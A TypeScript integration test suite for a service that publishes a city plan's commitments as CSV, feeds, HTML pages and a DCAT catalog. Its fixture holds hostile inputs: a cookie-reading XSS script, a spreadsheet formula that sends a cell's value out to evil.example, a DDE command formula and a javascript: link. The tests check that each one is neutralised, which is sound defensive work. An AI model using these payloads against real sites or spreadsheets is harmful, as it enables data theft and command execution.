import { HeadObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { plansInBatch, publishBatch } from '#functions/publish/handler';
import { defineCommitment, definePlan } from '#shared/api/definitions';
import { DEMO_COMMITMENT, DEMO_PLAN, DEMO_PLAN_ID } from '#shared/domain/demo-plan';
import { type PublishDependencies, publishPlan, publishSite } from '#shared/publish/publish';
import { historyPath } from '#shared/render/snapshot';
import { BASE_URL, createTestEnvironment, postUpdate, type TestEnvironment, type TestKey } from '#tests/support/environment';
import {
  expandJsonLd,
  expectSafeHtml,
  NS,
  ofType,
  readAtom,
  readCsvAgainstSchema,
  readJsonFeed,
  readRss,
  type SchemaField,
  values,
} from '#tests/support/feed-checks';
import { readStream } from '#tests/support/stream';
import { toEvent } from '../../infra/local/stream-poller.ts';

// One instant for every write in this file, so "the same day" holds however long the run takes.
const NOW = new Date();
const PLAN = `plans/${DEMO_PLAN_ID}/`;
const ECONOMY = DEMO_COMMITMENT.areaSlug!;
const TERRITORY = 'territori-i-sostenibilitat';

let env: TestEnvironment;
let deps: PublishDependencies;
let official: TestKey;
const seen = new Set<string>();

/** Every stream record written since the last call, in order, as Lambda would receive them. */
const newStreamRecords = () => readStream(env, seen);

async function publishStream() {
  const records = await newStreamRecords();
  expect(records.length).toBeGreaterThan(0);
  const event = toEvent(records, env.streamArn);
  const outcome = await publishBatch(event, deps);
  expect(outcome.failedSequences).toEqual([]);
  return { outcome, event };
}

async function bucketContents(): Promise<Map<string, string>> {
  const keys = await env.listObjects();
  const bodies = await Promise.all(keys.map(async (key) => [key, (await env.getObject(key))!.body] as const));
  return new Map(bodies);
}

async function post(commitmentId: string, body: Record<string, unknown>) {
  return postUpdate(env, official, DEMO_PLAN_ID, commitmentId, body);
}

const HOSTILE = {
  status: 'delayed',
  observations: [
    'Obres **endarrerides**, "cometes", comes, i emoji 🚧🎉',
    '',
    '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
    '',
    '=HYPERLINK("http://evil.example/?d="&A1,"Clica")',
    '',
    '- [trampa](javascript:alert(1))',
    '- línia amb ]]> i </item> i <![CDATA[ x ]]>',
  ].join('\n'),
  links: [{ title: '=cmd|" /C calc"!A0, "cites"', url: 'https://example.org/a?x=1&y="2"' }],
  progress: 35,
};

beforeAll(async () => {
  env = await createTestEnvironment({ now: () => NOW });
  deps = { repository: env.repository, store: env.store, baseUrl: BASE_URL };
  await definePlan(env.repository, DEMO_PLAN_ID, DEMO_PLAN, { now: NOW });
  await defineCommitment(env.repository, DEMO_PLAN_ID, 'c4', DEMO_COMMITMENT, { now: NOW });
  await defineCommitment(
    env.repository,
    DEMO_PLAN_ID,
    'c5',
    { ...DEMO_COMMITMENT, number: 5, title: 'Impulsarem el comerç de proximitat', status: 'pending', observations: '' },
    { now: NOW },
  );
  await defineCommitment(
    env.repository,
    DEMO_PLAN_ID,
    'c12',
    {
      number: 12,
      title: 'Millorarem la mobilitat sostenible',
      priority: { number: 2, title: 'Una ciutat més sostenible' },
      area: 'Territori i Sostenibilitat',
      status: 'pending',
    },
    { now: NOW },
  );
  official = await env.addKey('official', 'official', [{ planId: DEMO_PLAN_ID }]);
  // The first batch holds the plan's INSERT: everything is generated.
  const { event } = await publishStream();
  expect(plansInBatch(event).get(DEMO_PLAN_ID)!.full).toBe(true);
});
afterAll(() => env.destroy());

describe('hostile text posted through the signed API', () => {
  let updateId: string;
  let bucket: Map<string, string>;

  beforeAll(async () => {
    updateId = (await post('c4', HOSTILE)).updateId;
    await publishStream();
    bucket = await bucketContents();
  });

  it('leaves every CSV valid against its datapackage.json schema, with formulas neutralised', () => {
    const datapackage = JSON.parse(bucket.get(`${PLAN}datapackage.json`)!) as {
      resources: Array<{ path: string; schema?: { fields: SchemaField[] } }>;
    };
    const csvKeys = [...bucket.keys()].filter((k) => k.endsWith('.csv'));
    expect(csvKeys.length).toBeGreaterThanOrEqual(2);
    for (const key of csvKeys) {
      const resource = datapackage.resources.find((r) => `${PLAN}${r.path}` === key);
      expect(resource?.schema, `${key} is described in datapackage.json`).toBeDefined();
      readCsvAgainstSchema(bucket.get(key)!, resource!.schema!);
    }
    const path = historyPath(NOW.toISOString().slice(0, 7), 'csv');
    const history = readCsvAgainstSchema(bucket.get(`${PLAN}${path}`)!, datapackage.resources.find((r) => r.path === path)!.schema!).rows;
    const row = history.find((r) => r.update_id === updateId)!;
    expect(row.observations).toContain('Obres endarrerides, "cometes", comes, i emoji 🚧🎉');
    expect(row.observations).toContain('\n=HYPERLINK(');
    // The link is stored as the URL parser serialises it (its quotes percent-encoded).
    expect(row.links).toBe(`'=cmd|" /C calc"!A0, "cites" <https://example.org/a?x=1&y=%222%22>`);
    // The current state carries the same links in the same form, neutralised the same way.
    const current = readCsvAgainstSchema(
      bucket.get(`${PLAN}commitments.csv`)!,
      datapackage.resources.find((r) => r.path === 'commitments.csv')!.schema!,
    ).rows;
    expect(current.find((c) => c.commitment_id === 'c4')!.links).toBe(row.links);
    expect(datapackage.resources.map((r) => r.path)).not.toContain('links.csv');
  });

  it('leaves every RSS, Atom and JSON feed valid, with the update as a safe item', () => {
    const feeds = [...bucket.keys()].filter((k) => /\/feed\.(rss|atom|json)$/.test(k));
    // The plan's in three formats; 2 areas and 3 commitments, Atom only.
    expect(feeds).toHaveLength(8);
    expect(feeds.filter((k) => k.includes('/areas/') || k.includes('/commitments/')).every((k) => k.endsWith('/feed.atom'))).toBe(true);
    for (const key of feeds) {
      const body = bucket.get(key)!;
      const feed = key.endsWith('.rss') ? readRss(body) : key.endsWith('.atom') ? readAtom(body) : readJsonFeed(body);
      const self = key.endsWith('.rss')
        ? (feed as ReturnType<typeof readRss>).self
        : key.endsWith('.atom')
          ? (feed as ReturnType<typeof readAtom>).self
          : (feed as ReturnType<typeof readJsonFeed>).feed.feed_url;
      expect(self).toBe(`${BASE_URL}/${key}`);
      for (const item of feed.items) expectSafeHtml(item.html);
    }
    const atom = readAtom(bucket.get(`${PLAN}commitments/c4/feed.atom`)!);
    expect(atom.items[0]!.id).toBe(`urn:uuid:${updateId}`);
    expect(atom.items[0]!.html).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
    expect(atom.items[0]!.html).toContain('<strong>endarrerides</strong>');
    expect(atom.items[0]!.html).toContain(']]&gt; i &lt;/item&gt; i &lt;![CDATA[ x ]]&gt;');
    expect(atom.items[0]!.title).toContain('Completat o en execució dins les previsions → En execució però amb retard');
    const area = readAtom(bucket.get(`${PLAN}areas/${ECONOMY}/feed.atom`)!);
    expect(area.items.map((i) => i.id)).toEqual([`urn:uuid:${updateId}`]);
    expect(readAtom(bucket.get(`${PLAN}areas/${TERRITORY}/feed.atom`)!).items).toEqual([]);
    const rss = readRss(bucket.get(`${PLAN}feed.rss`)!);
    expect(rss.items.map((i) => i.id)).toEqual([updateId]);
    const json = readJsonFeed(bucket.get(`${PLAN}feed.json`)!);
    expect(json.items[0]!.id).toBe(updateId);
    expect(json.feed.items[0].content_text).toContain('<script>alert(document.cookie)</script>');
  });

  it('serves every text object with a charset, the spreadsheet as one, and all with a Cache-Control', async () => {
    for (const key of bucket.keys()) {
      const head = await env.s3.send(new HeadObjectCommand({ Bucket: env.bucketName, Key: key }));
      if (key.endsWith('.xlsx')) expect(head.ContentType, key).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      else expect(head.ContentType, key).toMatch(/^[a-z]+\/[a-z0-9.+-]+;.*charset=utf-8/);
      expect(head.CacheControl, key).toMatch(/max-age=\d+/);
    }
    const type = async (key: string) => (await env.s3.send(new HeadObjectCommand({ Bucket: env.bucketName, Key: key }))).ContentType;
    expect(await type(`${PLAN}feed.atom`)).toBe('application/atom+xml; charset=utf-8');
    expect(await type(`${PLAN}feed.json`)).toBe('application/feed+json; charset=utf-8');
    expect(await type('catalog.jsonld')).toBe('application/ld+json; charset=utf-8');
  });

  it('keeps the HTML pages free of anything executable', () => {
    for (const key of [...bucket.keys()].filter((k) => k.endsWith('.html'))) {
      const html = bucket.get(key)!;
      expect(html).not.toMatch(/<script/i);
      for (const tag of html.match(/<[a-zA-Z][^>]*>/g)!) {
        expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
        expect(tag).not.toMatch(/href="\s*javascript:/i);
      }
    }
    // The observations are on the commitment's page, as the text they are; the summary names the commitment only.
    expect(bucket.get(`${PLAN}commitments/c4/index.html`)).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
    expect(bucket.get(`${PLAN}index.html`)).not.toContain('alert(document.cookie)');
  });

  it('lists the plan in catalog.jsonld (DCAT-AP) with a distribution for every plan file in the bucket', async () => {
    const graph = await expandJsonLd(bucket.get('catalog.jsonld')!);
    const [dataset] = ofType(graph, `${NS.dcat}Dataset`);
    expect(ofType(graph, `${NS.dcat}Dataset`)).toHaveLength(1);
    expect(values(dataset!, `${NS.dct}modified`)[0]!['@value']).toBe(NOW.toISOString().slice(0, 10));
    const downloads = values(dataset!, `${NS.dcat}distribution`).map(
      (ref) => values(graph.find((n) => n['@id'] === ref['@id'])!, `${NS.dcat}downloadURL`)[0]!['@id'] as string,
    );
    // Data files and the plan's summary; the area, commitment and list pages are pages, not distributions.
    const planFiles = [...bucket.keys()].filter((k) => k.startsWith(PLAN) && !/\/(areas|commitments|statuses|priorities)\//.test(k));
    expect(downloads.sort()).toEqual(planFiles.map((k) => `${BASE_URL}/${k}`).sort());
    expect(bucket.get('index.html')).toContain(`href="plans/${DEMO_PLAN_ID}/index.html"`);
  });
});

describe('incremental publishing', () => {
  it('after one update to one commitment, writes exactly the artifacts whose bytes changed and touches no other feed', async () => {
    const before = await bucketContents();
    await post('c12', { status: 'delayed', observations: 'Retard en la licitació.' });
    const { outcome, event } = await publishStream();
    const hint = plansInBatch(event).get(DEMO_PLAN_ID)!;
    expect(hint).toMatchObject({
      full: false,
      commitmentIds: new Set(['c12']),
      areaSlugs: new Set([TERRITORY]),
      // The month the update is reported in, from its sort key: only that month's history files are re-rendered.
      years: new Set([NOW.getUTCFullYear()]),
      months: new Set([NOW.toISOString().slice(0, 7)]),
    });

    const after = await bucketContents();
    // The publisher's private snapshot of the commitments is bookkeeping, not a published file.
    const changed = [...after.keys()].filter((key) => before.get(key) !== after.get(key) && !key.startsWith('snapshots/')).sort();
    const [plan] = outcome.plans;
    const written = [...plan!.written, ...(outcome.site?.written ?? [])].sort();
    expect(written).toEqual(changed);
    // What a person would expect to change, and nothing of the other area or commitments.
    const month = NOW.toISOString().slice(0, 7);
    expect(written.filter((k) => k.includes('/updates/'))).toEqual([
      `${PLAN}${historyPath(month, 'csv')}`,
      `${PLAN}${historyPath(month, 'json')}`,
    ]);
    for (const file of ['commitments.csv', 'commitments.json', 'feed.rss', 'feed.atom', 'feed.json', 'index.html']) {
      expect(written).toContain(`${PLAN}${file}`);
    }
    // The area's and the commitment's feed, Atom only.
    expect(written).toContain(`${PLAN}commitments/c12/feed.atom`);
    expect(written).toContain(`${PLAN}areas/${TERRITORY}/feed.atom`);
    expect(written.filter((k) => /\/(areas|commitments)\/.*\/feed\.(rss|json)$/.test(k))).toEqual([]);
    // Its page, its area's page, and the two status lists it moved between.
    expect(written).toContain(`${PLAN}commitments/c12/index.html`);
    expect(written).toContain(`${PLAN}areas/${TERRITORY}/index.html`);
    expect(written.filter((k) => k.includes('/statuses/')).sort()).toEqual([
      `${PLAN}statuses/delayed/index.html`,
      `${PLAN}statuses/pending/index.html`,
    ]);
    const rendered = [...plan!.written, ...plan!.skipped];
    expect(
      rendered.filter((k) => k.includes(`/areas/${ECONOMY}/`) || k.includes('/commitments/c4/') || k.includes('/commitments/c5/')),
    ).toEqual([]);
    expect(written).not.toContain(`${PLAN}datapackage.json`);
    // The data dictionary names the files and the day, not each update: same month and day, same bytes.
    expect(written).not.toContain(`${PLAN}README.md`);
    // Same year and day as before: the catalog record is the one the root was confirmed to
    // include, so the round looks at neither; the root catalog and the root index stay as they were.
    expect(outcome.site).toBeUndefined();
    expect(plan!.skipped).toContain(`catalog/plans/${DEMO_PLAN_ID}.jsonld`);
    expect(written.filter((k) => !k.startsWith(PLAN))).toEqual([]);

    // The partial publish left nothing stale: a full regeneration finds nothing to write.
    const full = await publishPlan(DEMO_PLAN_ID, deps);
    expect(full!.written).toEqual([]);
    expect(full!.skipped.length).toBe(full!.artifacts);
  });

  it('re-renders the area a commitment left, from the old image in the stream', async () => {
    await defineCommitment(
      env.repository,
      DEMO_PLAN_ID,
      'c5',
      {
        ...DEMO_COMMITMENT,
        number: 5,
        title: 'Impulsarem el comerç de proximitat',
        area: 'Territori i Sostenibilitat',
        areaSlug: TERRITORY,
      },
      { now: NOW },
    );
    const { outcome, event } = await publishStream();
    expect(plansInBatch(event).get(DEMO_PLAN_ID)!.areaSlugs).toEqual(new Set([ECONOMY, TERRITORY]));
    const rendered = [...outcome.plans[0]!.written, ...outcome.plans[0]!.skipped];
    for (const area of [ECONOMY, TERRITORY]) expect(rendered).toContain(`${PLAN}areas/${area}/feed.atom`);
    expect(outcome.plans[0]!.written).toContain(`${PLAN}commitments.csv`);
    expect((await publishPlan(DEMO_PLAN_ID, deps))!.written).toEqual([]);
  });

  it('regenerates everything, and the site root, when the plan itself changes', async () => {
    await definePlan(env.repository, DEMO_PLAN_ID, { ...DEMO_PLAN, title: 'Pla de Mandat 2015-2019 (revisat)' }, { now: NOW });
    const { outcome, event } = await publishStream();
    expect(plansInBatch(event).get(DEMO_PLAN_ID)!.full).toBe(true);
    const written = outcome.plans[0]!.written;
    expect(written).toContain(`${PLAN}areas/${ECONOMY}/feed.atom`);
    expect(written).toContain(`${PLAN}commitments/c4/feed.atom`);
    expect(written).toContain(`${PLAN}feed.json`);
    expect(outcome.site?.rebuilt).toBe(true);
    expect(outcome.site?.written).toEqual(expect.arrayContaining(['catalog.jsonld', 'index.html']));
    expect((await env.getObject('index.html'))!.body).toContain('Pla de Mandat 2015-2019 (revisat)');
  });

  it('rebuilds a stale or missing site root from the plan records alone, and then writes nothing', async () => {
    await env.s3.send(new (await import('@aws-sdk/client-s3')).DeleteObjectCommand({ Bucket: env.bucketName, Key: 'catalog.jsonld' }));
    await env.s3.send(
      new (await import('@aws-sdk/client-s3')).DeleteObjectCommand({ Bucket: env.bucketName, Key: 'catalog/built-from.txt' }),
    );
    const rebuilt = await publishSite(deps);
    expect(rebuilt).toMatchObject({ rebuilt: true, plans: 1 });
    expect(rebuilt.written).toContain('catalog.jsonld');
    expect(await publishSite(deps)).toMatchObject({ rebuilt: false, written: [] });
  });
});
